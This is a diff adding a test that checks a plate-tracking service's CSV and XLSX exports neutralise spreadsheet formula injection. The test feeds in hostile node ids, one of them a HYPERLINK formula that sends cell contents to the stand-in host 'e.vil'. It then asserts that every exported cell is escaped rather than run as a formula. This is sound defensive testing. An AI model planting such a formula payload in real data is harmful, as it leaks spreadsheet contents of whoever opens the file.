@@ -238,3 +238,24 @@ def test_disposing_of_a_control_hit_can_release_the_truck_at_its_lane_only(api: 
     other_n2.close()
     trail = fred.get(f"/api/v1/alerts/{hit['id']}").json()
     assert trail["status"] == "disposed" and trail["disposed_by"] == "fred"
+
+
+def test_exports_never_write_a_formula(api: Api, central: Central) -> None:
+    # Edge-supplied text (here the node id, and so the pass_id) that a spreadsheet would run.
+    evil = '=HYPERLINK("http://e.vil/?"&A1,"x")'
+    ingest(central, 1, "粤B12345", node=evil)
+    ingest(central, 2, "粤B12345", node="@SUM(1+1)")
+    ingest(central, 3, "粤B12345", node="-2+3")
+    projections.run_all(central)
+    alice = api("alice")
+    rows = list(csv.reader(io.StringIO(alice.get("/api/v1/trace/plate/粤B12345", params={"format": "csv"}).text)))
+    refs = [r[2] for r in rows[1:]]
+    assert f"'{evil}-L1-1" in refs and "'@SUM(1+1)-L1-2" in refs and "'-2+3-L1-3" in refs
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+
+    from openpyxl import load_workbook
+
+    xlsx = alice.get("/api/v1/trace/plate/粤B12345", params={"format": "xlsx"}).content
+    cells = [c for row in load_workbook(io.BytesIO(xlsx)).worksheets[0].iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert f"'{evil}-L1-1" in [c.value for c in cells]
